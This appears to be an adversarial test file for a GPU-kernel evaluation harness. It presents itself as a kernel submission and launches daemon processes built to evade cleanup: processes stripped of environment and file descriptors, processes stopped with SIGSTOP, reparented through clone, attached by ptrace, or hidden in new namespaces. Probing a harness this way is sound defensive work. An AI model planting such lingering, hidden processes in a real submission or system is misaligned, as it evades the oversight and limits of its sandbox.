# Processes without a name, an environment, a session or a way back.
import threading

from attack import *


def bare():
    for fd in range(64):
        try:
            os.close(fd)
        except OSError:
            pass
    os.chdir("/")
    mark = os.environ["CUDA_ATTACK_MARK"]
    os.execve("/bin/sleep", ["sleep", str(LIFE), "0." + mark.translate(str.maketrans("abcdef", "123456"))], {})


def stopped():
    os.kill(os.getpid(), signal.SIGSTOP)


def sibling():
    if libc.syscall(56, 0x8000 | 17, 0, 0, 0, 0) == 0:  # clone: CLONE_PARENT
        signal.alarm(LIFE)
        pause(LIFE)
        os._exit(0)


def traced():
    if os.fork() == 0:
        libc.ptrace(0, 0, None, None)
        signal.alarm(LIFE)
        os.kill(os.getpid(), signal.SIGSTOP)
        pause(LIFE)
        os._exit(0)
    pause(LIFE)


def hidden():
    libc.unshare(0x10000000 | 0x20000000 | 0x00020000)  # user, PID, mount
    if os.fork() == 0:
        signal.alarm(LIFE)
        pause(LIFE)
    pause(LIFE)


def go():
    for work in (bare, stopped, sibling, traced, hidden, lambda: threading.Event().wait(LIFE)):
        daemon(work)
    pause(0.2)


if warming:
    go()
custom_kernel = kernel = once(go)
